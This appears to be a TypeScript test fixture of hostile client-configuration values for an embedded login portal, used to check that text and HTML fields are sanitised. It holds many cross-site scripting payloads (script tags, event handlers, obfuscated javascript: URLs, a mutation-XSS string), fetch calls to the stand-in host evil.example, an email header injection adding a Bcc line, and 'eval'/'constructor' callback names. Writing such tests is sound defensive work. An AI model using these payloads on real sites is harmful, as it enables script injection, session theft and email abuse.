/* Hostile values that a client's file may contain. */

const RUN = 'window.ran=1;fetch(`https://evil.example`)';
/** A text that would run if it were HTML, short enough for every field. */
export const IMAGE = '<img src=x onerror=window.ran=1>';
const NAME = `Ray"\r\nBcc: thief@evil.example\r\n\r\n${IMAGE}`.slice(0, 60);

function inBoth(text: string) {
  return { 'en-US': text, 'de-DE': text };
}

/** HTML for the HTML fields: everything except plain text must be removed. */
const HOSTILE_HTML = [
  '<b>Before</b>',
  `<script>${RUN}</script>`,
  `<img src="https://evil.example/x.gif" onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<form action="https://evil.example"><input name="p"><button formaction="javascript:${RUN}">x</button></form>`,
  '<style>body{background:url(https://evil.example)}</style>',
  `<iframe srcdoc="<script>${RUN}</script>"></iframe><object data="https://evil.example"></object>`,
  `<span onclick="${RUN}" onmouseover="${RUN}" style="position:fixed;inset:0" tabindex="0" autofocus onfocus="${RUN}">S</span>`,
  `<a href="javascript:${RUN}">one</a><a href=" java&#10;script:${RUN}">two</a><a href="//evil.example">three</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
].join('');

/** Changed fields of the client `ray` of embedding/embedded-portal.ts. */
export const HOSTILE_CLIENT = {
  name: NAME,
  heroText: { tagline1: inBoth(HOSTILE_HTML), tagline2: inBoth(HOSTILE_HTML) },
  loginFormLabels: {
    userLabel: inBoth(`User ID ${IMAGE}`),
    userPlaceholder: inBoth(`"><script>${RUN}</script>`),
    passwordLabel: inBoth(`Password ${IMAGE}`),
    buttonText: inBoth(`Log In ${IMAGE}`),
  },
  linkConfig: {
    links: [
      {
        kind: 'internal',
        label: inBoth(`Inside ${IMAGE}`),
        target: '/app/ray/termsOfUse?x=%22%3E%3Cscript%3E',
      },
      {
        kind: 'external',
        label: inBoth(`Outside ${IMAGE}`),
        target: "https://evil.example/'onclick='window.ran=1'",
      },
      // The name of a property that every object inherits, not of a registered function.
      { kind: 'callback', label: inBoth('Callback'), callback: 'constructor' },
    ],
  },
  selfRegLinkConfig: { links: [{ linkType: 'OAA', label: inBoth(`Register ${IMAGE}`) }] },
  sorryConfig: { primary: inBoth(`Sorry ${IMAGE}`), secondary: inBoth(`"><script>${RUN}</script>`) },
  checkBrowserConfig: {
    excludedBrowsers: ['Chrome', 'HeadlessChrome', IMAGE],
    title: inBoth(`Browser ${IMAGE}`),
    message: inBoth(`<script>${RUN}</script>`),
  },
  mobileSheetConfig: {
    sheetContent: inBoth(HOSTILE_HTML),
    actionButtonText: inBoth(`Open ${IMAGE}`),
    cancelButtonText: inBoth('Stay here'),
    methods: { onActionButtonClick: 'eval' },
  },
  support: {
    content: {
      phone: { number: '+44 20 7946 0261', note: inBoth(`Phone ${IMAGE}`) },
      text: inBoth(HOSTILE_HTML),
    },
  },
  wordings: {
    'en-US': { 'login-mf': { heading: `Heading ${IMAGE}<script>${RUN}</script>` } },
    'de-DE': { 'login-mf': { heading: `Heading ${IMAGE}<script>${RUN}</script>` } },
  },
};
